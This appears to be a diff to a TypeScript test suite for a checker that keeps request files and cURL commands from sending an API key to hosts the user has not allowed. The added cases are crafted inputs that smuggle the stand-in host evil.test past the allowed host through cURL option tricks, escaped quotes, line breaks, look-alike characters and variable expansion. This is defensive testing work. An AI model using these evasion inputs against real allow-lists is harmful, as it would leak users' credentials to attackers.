@@ -39,6 +39,8 @@ describe('A request file can’t send a key to a host that the user didn’t all
 		'an allowed host with its default port': request('https://good.test:443/x'),
 		'an allowed host with user information': request('https://user:password@good.test/x'),
 		'an allowed host without a path': request('https://good.test'),
+		'an allowed host with an HTTP version': request('https://good.test HTTP/1.1'),
+		'an allowed host in a variable with dots': `@api.host = good.test\n@api.port = 443\n\n###\n${request('https://good.test/{{api.port}}')}`,
 		'an allowed host over WebSocket': request('wss://good.test/x').replace('GET', 'WS'),
 		'an allowed host in a variable': `@host = good.test\n\n###\n${request('https://{{host}}/x')}`,
 		'an allowed URL in a variable of the request': `@base = https://good.test/\n${request('{{base}}x')}`,
@@ -88,13 +90,24 @@ describe('A request file can’t send a key to a host that the user didn’t all
 		'with letters that look like loopback': [request('https://lоcalhost/x'), 'lоcalhost (xn--lcalhost-nbh)'],
 		'with a punycode name': [request('https://xn--bcher-kva.test:8443/x'), 'bücher.test:8443 (xn--bcher-kva.test)'],
 		'in the next line': [request('https://good.test').replace('\n', '\n&a=b@evil.test/\n'), 'evil.test'],
+		'in a cURL command after the value of an option': [`curl -H "-H" https://evil.test/ -s https://good.test/ -H "${KEY}"\n`, 'evil.test'],
+		'in a cURL command after a method': [`curl -XPATCH https://evil.test/ -s https://good.test/ -H "${KEY}"\n`, 'evil.test'],
+		'in a cURL command between escaped quotes': [
+			`curl -H "X: \\" https://evil.test/ \\"" -s https://good.test/ -H "${KEY}"\n`,
+			'evil.test',
+		],
+		'in a cURL command after a line break, which joins two words': [
+			`curl -H "X: x"\n-H https://evil.test/ -s https://good.test/ -H "${KEY}"\n`,
+			'evil.test',
+		],
+		'in a cURL option without a space': [`curl -L"https://evil.test/" -s https://good.test/ -H "${KEY}"\n`, 'evil.test'],
+		'in front of an HTTP version': [request('https://evil.test HTTP/@good.test/'), 'evil.test'],
 		'in a line that a variable turns into part of the URL': [
 			`@more = &a=b@evil.test/\n\n###\nGET https://good.test\n{{more}}\n${KEY}\n`,
 			'evil.test',
 		],
 		'in a line after the headers': [request('https://good.test', '&a=b@evil.test/'), 'evil.test'],
 		'in a variable that REST Client unescapes': [`@host = ev\\il.test\n\n###\n${request('https://{{host}}/x')}`, 'evil.test'],
-		'in a header with a line break from a variable': [`@a = 1\\nHost: evil.test:443\n\n###\nGET /x\nA: {{a}}\n${KEY}\n`, 'evil.test'],
 		'in the header of a path': [request('/x', 'Host: evil.test:443'), 'evil.test'],
 		'in the variable that is the host of a path': [`@host = https://evil.test\n\n###\n${request('/x')}`, 'evil.test'],
 		'as a proxy': [`# @proxy https://evil.test:8443\n${request('https://good.test/x')}`, 'evil.test:8443'],
@@ -163,6 +176,26 @@ describe('A request file can’t send a key to a host that the user didn’t all
 		it(`through ${title}, because the host isn’t known`, () => {
 			assert.equal(check(text), 'unknown');
 			assert.equal(check(text, 'requestFile', TOKEN, { ...RULES, isFileAllowed: true }), 'allowed');
+		});
+	}
+
+	const unknownToRestClient: Record<string, string> = {
+		'a variable whose name encodes another one': `@x = evil.test\n@%x = good.test\n\n###\n${request('https://{{%x}}/x')}`,
+		'a variable whose name is a pattern of another one': `@. = evil.test/\n@x = good.test\n@u = https://{{x}}/{{.}}\n\n###\n${request('{{u}}')}`,
+		'a variable whose dot stands for any character':
+			'@a.b = evil.test/\n@a_b = good.test\n@u = https://{{a_b}}/{{a.b}}\n\n###\n' + request('{{u}}'),
+		'a variable that inserts other text than its own': `@p = $\`\n@u = https://{{p}}@good.test/\n\n###\n${request('{{u}}')}`,
+		'a variable that only seems to complete a placeholder': `@x = good.test/\n@a = {\n\n###\n${request('https://{{a}}{x}}.evil.test/')}`,
+		'a header with a line break from a variable': `@a = 1\\nHost: evil.test:443\n\n###\nGET /x\nA: {{a}}\n${KEY}\n`,
+		'headers that end at a line break from a variable, except on Windows': `@a = 1\\n\\n\n\n###\nGET /x\nHost: localhost\nA: {{a}}\nHost: @evil.test:80\n${KEY}\n`,
+		'a date whose format is any text': request('/x', `X: {{$datetime '[x]'}}`, 'Host: good.test:443'),
+	};
+	for (const [title, text] of Object.entries(unknownToRestClient)) {
+		it(`through ${title}, although only REST Client is installed`, () => {
+			const destinations = findRequestUses(text, 'requestFile').requests.flatMap(
+				({ destinationsByClient }) => destinationsByClient.restClient,
+			);
+			assert.equal(checkHosts(destinations, TOKEN, RULES).kind, 'unknown');
 		});
 	}
 
